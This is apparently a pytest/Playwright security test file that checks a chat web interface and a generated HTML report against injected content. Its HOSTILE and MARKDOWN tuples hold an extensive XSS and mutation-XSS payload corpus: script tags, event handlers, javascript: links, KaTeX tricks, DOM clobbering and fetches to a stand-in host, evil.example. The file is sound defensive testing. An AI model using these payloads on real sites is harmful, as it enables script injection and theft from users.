"""Hostile text on the page and in a report: no script runs, no request goes out, nothing becomes markup.

The page is tested with its content security policy and without: each of the two must be enough.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from browser.held_llm import HeldLLM, call, text, thinking
from browser.served import send_message, served
from support.run_logs import LogWriter, whole_run
from toolcast import Permissions, Rule, ToolContext, user
from toolcast.chat.effects import StageTask
from toolcast.errors import RateLimited, ToolcastError
from toolcast.experiments.pei.agreement import PEIResult
from toolcast.experiments.pei.assessment_files import ResultsFile
from toolcast.experiments.report.page import report_on
from toolcast.messages import DocumentPart

sync_api = pytest.importorskip("playwright.sync_api", reason="needs Playwright, run `nox -s browser`: NOT TESTED HERE")
pytest.importorskip("matplotlib", reason="needs matplotlib: pip install 'toolcast[report]'")
expect = sync_api.expect

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

RUN = "window.pwned=(window.pwned||0)+1"
FETCH = "https://evil.example/x"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"<script src={FETCH}.js></script>",
    f'"><img src=x onerror="{RUN}">',
    f"<img src={FETCH}.png>",
    f"<svg onload={RUN}><use href={FETCH}.svg#a /></svg>",
    f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src={FETCH}></iframe>",
    f"<object data={FETCH}></object><embed src={FETCH}>",
    f"<link rel=stylesheet href={FETCH}.css><link rel=preload as=image href={FETCH}.png>",
    f"<style>@import url({FETCH}.css); body {{ background: url({FETCH}.png) }}</style>",
    f"<meta http-equiv=refresh content='0;url={FETCH}'><base href={FETCH}/>",
    f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>x</button></form>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><video src={FETCH}.mp4 onerror={RUN}></video>",
    f"</pre></p></div></title></textarea></style></script><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    f"'-{RUN}-'\";{RUN}//`${{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script>{RUN}</script>",
    f"[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) [c](java\tscript:{RUN}) [d](\x01javascript:{RUN})",
    f"[e](data:text/html,<script>{RUN}</script>) [f](vbscript:{RUN}) [g](//evil.example) [h](file:///etc/passwd)",
    f"![i]({FETCH}.png) ![j](javascript:{RUN}) [![k]({FETCH}.png)](javascript:{RUN})",
    f'[l](https://ok.example/"onmouseover="{RUN}) [m](https://ok.example/ "t\\" onclick={RUN}") <javascript:{RUN}>',
    f"```<img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```",
    f'| <img src=x onerror={RUN}> | b |\n|---|:-:" style="background:url({FETCH})|\n| [x](javascript:{RUN}) | y |',
    "\u202etxt.exe\u2066\u200b\u2069\u061c\U000e0041\ufeff\u2028\x1b[31m",
    "__proto__ constructor toString {{7*7}} ${7*7} %s",
)
MARKDOWN = (
    f"[a]: javascript:{RUN}\n\n[a] and [b][a]\n\n[^1]: javascript:{RUN}",
    f"<https://ok.example/?<img src=x onerror={RUN}>> https://ok.example/<svg/onload={RUN}>",
    f'https://ok.example/" onmouseover="{RUN} http://ok.example:99999/ https://[::1 https://%00/',
    f"javascript:{RUN} data:text/html,<script>{RUN}</script> blob:https://x.example/1 intent://x#Intent;end",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\url{{javascript:{RUN}}}$",
    "$\\htmlClass{x}{y}$ $\\htmlStyle{color:red}{y}$",
    f"$\\text{{</math><img src=x onerror={RUN}>}}$ $$\\includegraphics{{{FETCH}.png}}$$ \\[<script>{RUN}</script>_1\\]",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{9999999em}{9999999em}$ $" + "{" * 500 + "}" * 500 + "_1$",
    f"$\\unicode{{x3c}}<annotation-xml encoding=text/html><svg onload={RUN}></annotation-xml>_1$",
    f"```html\n<img src=x onerror={RUN}></code></pre><script>{RUN}</script>\n```",
    f"```js\n`${{{RUN}}}` // </span><script>{RUN}</script>\n```",
    f'```<svg/onload={RUN}> x\ny\n```\n~~~" onload={RUN}\nz\n~~~',
    f"<details><summary onclick={RUN}>a</summary><sub onclick={RUN}>b</sub></details>",
    f"<details>\n<summary><b onclick={RUN}><img src=x onerror={RUN}></summary>\n\n<svg onload={RUN}>\n</details>",
    f"<sub><img src=x onerror={RUN}></sub> <kbd><script>{RUN}</script></kbd> <sup/onclick={RUN}>x</sup>",
    f'a[^1] b[^x"onclick={RUN}]\n\n[^1]: <img src=x onerror={RUN}> [x](javascript:{RUN})',
    f"- [x] <input autofocus onfocus={RUN}>\n- [ ] [x](javascript:{RUN})\n  - <b onclick={RUN}>b</b>",
    f"# <h1 onclick={RUN}>\n\n> <blockquote style='background:url({FETCH})'>\n\n---\n<hr onclick={RUN}>",
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>"><mglyph><style></math><img src onerror={RUN}>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><img src=x onerror={RUN}></template>",
    "<a id=location href=https://evil.example/></a><img name=body>",
    "<form name=getElementById><input name=attributes></form>",
)
"""Text that a Markdown parser, a sanitizer, a highlighter or KaTeX might turn into markup."""
EVIL = "\n\n".join(HOSTILE)
LINES = [each.replace("\n", " ") for each in HOSTILE]
OWN_PATHS = ("/", "/chats", "/modes", "/models", "/models/check", "/diagram")
MARKUP = (
    ":is(img, script, iframe, svg:not(button > .glyph), math, object, embed, style, link, meta, base, form, video, b,"
    " details[ontoggle])"
)


class Tab:
    """A page in a browser, and what it did that it should not have done."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def did_nothing(self, allowed: Callable[[str], bool]) -> None:
        """No script ran, nothing was asked for, and the address is the same."""
        assert self.page.evaluate("window.pwned") is None
        assert self.dialogs == []
        assert [url for url in self.requests if not allowed(url)] == []

    def shows_no_markup(self, inside: str) -> None:
        """Nothing of the text has become an element or a handler, and links lead to web pages only."""
        page = self.page
        assert page.locator(f"{inside} {MARKUP}").count() == 0
        handlers = page.locator(f"{inside} *").evaluate_all(
            "all => all.flatMap(each => each.getAttributeNames()).filter(name => /^on|^style$|^srcdoc$/.test(name))"
        )
        assert handlers == []
        links = page.locator(f"{inside} a:not(.file-part)").evaluate_all("all => all.map(a => [a.protocol, a.rel])")
        files = page.locator(f"{inside} a.file-part").evaluate_all("all => all.map(each => each.href)")
        assert all(is_own(link) for link in files)
        assert all(link == ["https:", "noopener noreferrer"] for link in links)


@pytest.fixture(params=[False, True], ids=["with its policy", "without its policy"])
def opened(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Callable[[str], Tab]]:
    """Opens an address in a new tab."""
    with ExitStack() as stack:

        def opened(url: str) -> Tab:
            context = browser.new_context(bypass_csp=request.param, viewport={"width": 1000, "height": 800})
            stack.callback(context.close)
            context.set_default_timeout(10_000)
            tab = Tab(context.new_page())
            tab.page.goto(url)
            return tab

        yield opened


def is_own(url: str) -> bool:
    parts = urlsplit(url)
    return parts.hostname == "127.0.0.1" and (parts.path in OWN_PATHS or parts.path.startswith(("/assets/", "/chats/")))


def is_in(page: Page, state: str) -> None:
    expect(page.locator("#state")).to_have_attribute("data-state", state)


@pytest.mark.fault(143)
def test_a_chat(opened: Callable[[str], Tab]) -> None:
    """Messages, thoughts, names of tools and files, arguments, progress, results and errors of tools."""

    def echo(context: ToolContext, words: str) -> str:
        context.emit(words)
        context.emit({words: [words]})
        return words

    def fail(words: str) -> str:
        raise RuntimeError(words)

    arguments = json.dumps({"words": EVIL})
    llm = HeldLLM(
        [
            *thinking(EVIL),
            *text(EVIL, 7),
            *call("echo", arguments),
            *call("fail", json.dumps({"words": LINES[2]}), "c2"),
        ],
        [
            *text(EVIL, 1000),
            *(each for n, name in enumerate(LINES) for each in call(name, json.dumps({name: name}), f"u{n}")),
        ],
        [*text("<script", 1), *call("echo", EVIL, "broken")],
        text(EVIL, 50),
    )
    rules = Permissions(rules=[Rule("fail", "allow")])
    history = [user(EVIL, DocumentPart(data=b"x", media_type="text/plain", name=LINES[4]))]
    with served(llm, [echo, fail], permissions=rules, history=history) as chat:
        tab = opened(chat.url)
        page = tab.page
        is_in(page, "ready")
        send_message(page, EVIL)
        question = page.get_by_role("group", name="Approve echo?").first
        for button in ("Edit", "Back", "Approve"):
            question.get_by_role("button", name=button, exact=True).click()
        is_in(page, "ready")
        tab.shows_no_markup("#log")
        tab.did_nothing(is_own)
        shown = page.locator(".call:has(.tool:text-is('echo')) .result pre").first
        page.locator(".call:has(.tool:text-is('echo')) summary").first.click()
        page.get_by_role("button", name="more lines").first.click()
        expect(shown).to_have_text(EVIL, use_inner_text=False)
        page.reload()
        is_in(page, "ready")
        for fold in page.locator("details").all():
            fold.evaluate("fold => { fold.open = true }")
        tab.shows_no_markup("#log")
        tab.did_nothing(is_own)
        assert page.title().endswith(" – toolcast")


def test_markdown_of_a_model(opened: Callable[[str], Tab]) -> None:
    """Each text while it streams, whole, and after a reload; formulas are the only markup beside that of Markdown."""
    llm = HeldLLM(*([*text(each, 3)] for each in MARKDOWN), text("\n\n".join(MARKDOWN), 400))
    with served(llm) as chat:
        tab = opened(chat.url)
        page = tab.page
        is_in(page, "ready")
        for number in range(len(MARKDOWN) + 1):
            send_message(page, "Go on")
            expect(page.locator(".message.assistant:not(.live)")).to_have_count(number + 1)
            is_in(page, "ready")
        for _ in range(2):
            page.locator("[data-math] math").evaluate_all("all => all.forEach(each => each.remove())")
            tab.shows_no_markup("#log")
            boxes = page.locator("#log input").evaluate_all("all => all.map(each => [each.type, each.disabled])")
            assert all(box == ["checkbox", True] for box in boxes)
            tab.did_nothing(is_own)
            page.reload()
            expect(page.locator(".message.assistant")).to_have_count(len(MARKDOWN) + 1)


@pytest.mark.nightly
def test_names_of_models_and_errors(opened: Callable[[str], Tab]) -> None:
    async def load(work: StageTask) -> None:
        raise ToolcastError(f"there is no model {work.context.model}: {EVIL}")

    with served(HeldLLM(), perform={"load_model": load}, model=EVIL) as chat:
        tab = opened(chat.url)
        page = tab.page
        is_in(page, "load_failed")
        page.get_by_role("button", name="Model").click()
        assert page.get_by_role("option").first.get_attribute("data-model") == EVIL
        page.keyboard.press("Escape")
        for words in LINES:
            page.get_by_role("button", name="Model").click()
            page.get_by_role("combobox", name="Model").fill(words)
            page.get_by_role("option").last.click()
            if words.isprintable():  # others are spelt out
                expect(page.locator("#notice-text")).to_contain_text(f"there is no model {words[:10]}")
        page.get_by_role("button", name="Try again").click()
        is_in(page, "load_failed")
        for place in ("#notice", "#picker", "#model", "aside dl"):
            tab.shows_no_markup(place)
        tab.did_nothing(is_own)


@pytest.mark.fault(143)
def test_an_error_of_the_service(opened: Callable[[str], Tab]) -> None:
    with served(HeldLLM(RateLimited(EVIL), [*text(EVIL, 9)])) as chat:
        tab = opened(chat.url)
        page = tab.page
        send_message(page, "Hello")
        expect(page.get_by_role("alert")).to_contain_text("The model did not answer.")
        expect(page.locator("#log")).to_contain_text("This turn failed")
        shown = (page.locator("#notice-text").text_content() or "") + (page.locator("#log").text_content() or "")
        assert not {*shown} & {*"\u202e\u2066\u2069\u200b\u061c\ufeff\x1b\U000e0041"}
        send_message(page, LINES[2])
        expect(page.locator(".message.assistant .prose")).to_have_count(1)
        is_in(page, "ready")
        tab.shows_no_markup("#log")
        tab.shows_no_markup("#notice")
        tab.did_nothing(is_own)


def hostile_run(folder: Path, number: int, words: str) -> Path:
    """The log of a run in which everything that a model, a tool, a service or a user may choose is `words`."""
    config: dict[str, Any] = {"model_name": words, "system_prompt": words, words: {words: words}}
    log = LogWriter(folder / f"run-{number}.jsonl", f"run {words}").start(config)
    for _ in range(2):
        log.begin().answer(words).write(words, words).call(words, f"Error: {words}", **{words: words})
        log.error(words, kind=words)
        log.end(words, advisory=words, similarity=0.9, similar_to=1, ended_by=words)
    return log.finish(words)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    logs = [hostile_run(folder, number, words) for number, words in enumerate((EVIL, *LINES[:6]))]
    logs.append(whole_run(folder / f"{LINES[16].replace('/', '_')[:60]}.jsonl", "ordinary"))
    file = ResultsFile(folder / "pei_results.jsonl")
    for log in logs:
        for words in (EVIL, LINES[2]):
            file.add(PEIResult(log.stem, words, 4, words, words))
    return report_on(logs, embedder="words").write(folder / "report", png=False)[0]


@pytest.mark.nightly
@pytest.mark.fault(143)
def test_a_report(browser: Browser, report: Path) -> None:
    """It is a file, without a policy of a server."""
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    try:
        tab = Tab(context.new_page())
        page = tab.page
        page.goto(report.as_uri())
        for fold in page.locator("details").all():
            fold.evaluate("fold => { fold.open = true }")
        for link in page.locator("a[href]").all():
            assert (link.get_attribute("href") or "").startswith("#")
            link.click()
        for figure in page.locator("figure.chart").all():
            figure.scroll_into_view_if_needed()
            expect(figure.locator(".plot svg").first).to_be_attached()
        page.emulate_media(media="print")
        found = "img, iframe, math, object, embed, base, form, video, main b, [onload], [onerror], [onbegin]"
        assert page.locator(found).count() == 0
        assert page.locator("script:not([type='application/json'])").count() == 2
        assert page.locator("link").evaluate_all("all => all.map(each => each.href)") == ["data:,"]
        assert page.locator("style").count() == 1
        assert page.locator("meta[http-equiv=refresh]").count() == 0
        tab.did_nothing(lambda url: urlsplit(url).path == urlsplit(report.as_uri()).path or url.startswith("data:"))
        assert page.url.partition("#")[0] == report.as_uri()
        assert page.title() == "8 experiments"
    finally:
        context.close()
